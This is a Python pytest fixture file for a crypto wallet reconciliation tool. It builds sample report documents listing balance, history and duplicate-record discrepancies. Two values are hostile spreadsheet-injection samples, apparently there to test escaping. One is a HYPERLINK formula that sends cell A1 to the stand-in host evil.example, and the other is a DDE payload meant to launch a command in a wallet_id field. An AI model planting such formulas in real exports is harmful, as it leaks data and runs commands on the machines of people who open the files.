"""Report documents built by hand, as `Report.to_dict()` would return them."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from reconcile_tui.reconcile.model import SEVERITY, Kind, discrepancy_id

GENERATED_AT = "2025-01-15T09:35:00Z"
FETCHED_AT = "2025-01-15T09:30:00Z"

ETH_WALLET = "6f1c2a9e-3b7d-4e58-9a0c-1d2e3f405162"
USDT_WALLET = "0b9d8c7e-6f5a-4b3c-8d2e-1f0a9b8c7d6e"
BTC_WALLET = "a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
TRICKY_MESSAGE = (
    'Zahlung für Bestellung „12“, bitte prüfen: a "quoted", <b>&amp;</b>\nzweite Zeile ✓'
)


def discrepancy(
    kind: Kind,
    message: str,
    *,
    currency: str | None = None,
    wallet_id: str | None = None,
    bucket: str | None = None,
    field: str | None = None,
    api_value: str | None = None,
    merchant_value: str | None = None,
    difference: str | None = None,
    usd_difference: str | None = None,
    references: list[str] | None = None,
    acknowledged: bool = False,
) -> dict[str, Any]:
    """One discrepancy object of the report schema, keys in schema order."""
    refs = references or []
    return {
        "id": discrepancy_id(
            kind, currency, wallet_id, bucket, field, refs[0] if len(refs) == 1 else None
        ),
        "kind": kind.value,
        "severity": SEVERITY[kind].value,
        "currency": currency,
        "wallet_id": wallet_id,
        "bucket": bucket,
        "field": field,
        "api_value": api_value,
        "merchant_value": merchant_value,
        "difference": difference,
        "usd_difference": usd_difference,
        "references": refs,
        "message": message,
        "acknowledged": acknowledged,
        "causes": [],
    }


def build_document(
    discrepancies: list[dict[str, Any]],
    *,
    tolerances: dict[str, str] | None = None,
    first_divergence: dict[str, str] | None = None,
    notes: list[dict[str, Any]] | None = None,
) -> dict[str, Any]:
    """A whole document around `discrepancies`, its summary counted from them."""
    open_ = [d for d in discrepancies if not d["acknowledged"]]
    by_kind: dict[str, int] = {}
    for kind in Kind:
        count = sum(1 for d in open_ if d["kind"] == kind.value)
        if count:
            by_kind[kind.value] = count
    return {
        "schema_version": 1,
        "generated_at": GENERATED_AT,
        "api": {
            "base_url": "https://api.cryptofuse.io",
            "fetched_at": FETCHED_AT,
            "period": "7d",
            "interval": "daily",
        },
        "records": {"count": 1234, "files": ["exports/jan.csv", "exports/feb|march.csv"]},
        "tolerances": tolerances if tolerances is not None else {"USDTERC20": "0"},
        "summary": {
            "status": "discrepancies" if open_ else "clean",
            "errors": sum(1 for d in open_ if d["severity"] == "error"),
            "warnings": sum(1 for d in open_ if d["severity"] == "warning"),
            "acknowledged": len(discrepancies) - len(open_),
            "by_kind": by_kind,
            "first_divergence": first_divergence or {},
        },
        "discrepancies": discrepancies,
        "notes": notes or [],
    }


def _rich_discrepancies() -> list[dict[str, Any]]:
    # Errors first, then by currency and kind: the order the engine sorts into.
    return [
        discrepancy(
            Kind.API_INCONSISTENCY,
            "the gateway's total_usd_value 1500.00 is not the sum of its currencies (1499.99)",
            field="total_usd_value",
            api_value="1500.00",
            merchant_value="1499.99",
            difference="0.01",
        ),
        discrepancy(
            Kind.TOTAL_MISMATCH,
            "BTC total_deposited: the gateway says 1.50000000, the records 1.60000000",
            currency="BTC",
            field="total_deposited",
            api_value="1.50000000",
            merchant_value="1.60000000",
            difference="-0.10000000",
            usd_difference="-6500.00",
        ),
        discrepancy(
            Kind.CURRENCY_NOT_IN_API,
            "5 records in DOGE (balance 1000.00000000), a currency the gateway does not report",
            currency="DOGE",
            merchant_value="1000.00000000",
            references=["D-1", "D-2", "D-3", "D-4", "D-5"],
        ),
        discrepancy(
            Kind.AVAILABLE_MISMATCH,
            "ETH wallet Main: the gateway's available balance is 2.000000000000000000,"
            " the records' 2.500000000000000001",
            currency="ETH",
            wallet_id=ETH_WALLET,
            api_value="2.000000000000000000",
            merchant_value="2.500000000000000001",
            difference="-0.500000000000000001",
            usd_difference="-1500.00",
        ),
        discrepancy(
            Kind.PENDING_MISMATCH,
            "ETH wallet Main: pending 0.1 on the gateway, 0 in the records",
            currency="ETH",
            wallet_id=ETH_WALLET,
            api_value="0.100000000000000000",
            merchant_value="0",
            difference="0.100000000000000000",
            usd_difference="300.00",
            acknowledged=True,
        ),
        discrepancy(
            Kind.HISTORY_MISMATCH,
            'ETH 2025-01-10: deposits <gateway> & "records" disagree (1 > 0)',
            currency="ETH",
            bucket="2025-01-10T00:00:00Z",
            field="deposits",
            api_value="1.000000000000000000",
            merchant_value="0",
            difference="1.000000000000000000",
            usd_difference="3000.00",
        ),
        discrepancy(
            Kind.WALLET_NOT_IN_API,
            HYPERLINK,
            currency="USDTERC20",
            wallet_id="@SUM(1+1)*cmd|' /C calc'!A0",
            merchant_value="-12.000000",
            references=[HYPERLINK, "ORD-7"],
        ),
        discrepancy(
            Kind.AVAILABLE_MISMATCH,
            "USDTERC20 wallet Payouts: available 100.000000 vs 105.000000 | checked",
            currency="USDTERC20",
            wallet_id=USDT_WALLET,
            api_value="100.000000",
            merchant_value="105.000000",
            difference="-5.000000",
            usd_difference="-5.00",
            acknowledged=True,
        ),
        discrepancy(
            Kind.TOTAL_MISMATCH,
            TRICKY_MESSAGE,
            currency="USDTERC20",
            field="total_fees_paid",
            api_value="3.250000",
            merchant_value="3.000000",
            difference="0.250000",
            usd_difference="0.25",
        ),
        discrepancy(
            Kind.HISTORY_MISMATCH,
            "USDTERC20 2025-01-12: the gateway's deposit count is 3, the records' 4",
            currency="USDTERC20",
            bucket="2025-01-12T00:00:00Z",
            field="deposit_count",
            api_value="3",
            merchant_value="4",
            difference="-1",
        ),
        discrepancy(
            Kind.DUPLICATE_RECORD,
            "reference ORD-1001 appears 2 times in exports/jan.csv (line 4, repeated on line 9);"
            " the copies are identical; only line 4 is counted",
            currency="USDTERC20",
            wallet_id=USDT_WALLET,
            references=["ORD-1001"],
        ),
        discrepancy(
            Kind.CURRENCY_NOT_IN_RECORDS,
            "the gateway holds 250.000000 USDCTRC20 but no record mentions that currency",
            currency="USDCTRC20",
            api_value="250.000000",
        ),
        discrepancy(
            Kind.LOW_BALANCE,
            "BTC wallet Cold has 0.00100000 available, below the threshold of 0.01000000",
            currency="BTC",
            wallet_id=BTC_WALLET,
            api_value="0.00100000",
            acknowledged=True,
        ),
        discrepancy(
            Kind.STALE_PENDING,
            "deposit ORD-2002 of 12.500000 USDTERC20 has been pending for 9d (since"
            " 2025-01-06T08:00:00Z), longer than 3d",
            currency="USDTERC20",
            wallet_id=USDT_WALLET,
            merchant_value="12.500000",
            references=["ORD-2002"],
        ),
    ]


RICH_TOLERANCES = {"BTC": "0", "DOGE": "0", "ETH": "0", "USDCTRC20": "0", "USDTERC20": "0.01"}


@pytest.fixture
def document() -> dict[str, Any]:
    """A report with every kind, several currencies, open and acknowledged discrepancies."""
    return build_document(
        _rich_discrepancies(),
        tolerances=dict(RICH_TOLERANCES),
        first_divergence={"ETH": "2025-01-10T00:00:00Z", "USDTERC20": "2025-01-12T00:00:00Z"},
        notes=[
            {
                "currency": "BTC",
                "message": "BTC: the records start from an opening balance, so the gateway's"
                " all-time totals (total_deposited, total_withdrawn, total_fees_paid)"
                " are not compared",
            },
            {"currency": None, "message": "2 rows of exports/jan.csv are quarantined"},
            {"currency": "ETH", "message": "# no balance history was fetched | so not compared"},
        ],
    )


@pytest.fixture
def clean_document() -> dict[str, Any]:
    """A report where the gateway and the records agree."""
    return build_document([], tolerances={"BTC": "0", "USDTERC20": "0"})


def _history_mismatches(count: int, currency: str = "USDTERC20") -> list[dict[str, Any]]:
    return [
        discrepancy(
            Kind.HISTORY_MISMATCH,
            f"bucket {index}: balance differs",
            currency=currency,
            bucket=f"2025-01-{1 + index // 24:02d}T{index % 24:02d}:00:00Z",
            field="balance",
            api_value="1.000000",
            merchant_value="2.000000",
            difference="-1.000000",
        )
        for index in range(count)
    ]


@pytest.fixture
def make_discrepancy() -> Callable[..., dict[str, Any]]:
    """Build one discrepancy object: `make_discrepancy(Kind.X, "message", currency=...)`."""
    return discrepancy


@pytest.fixture
def make_document() -> Callable[..., dict[str, Any]]:
    """Build a document around a list of discrepancies, its summary counted from them."""
    return build_document


@pytest.fixture
def history_mismatches() -> Callable[..., list[dict[str, Any]]]:
    """`history_mismatches(count, currency)`: that many open errors in one currency."""
    return _history_mismatches
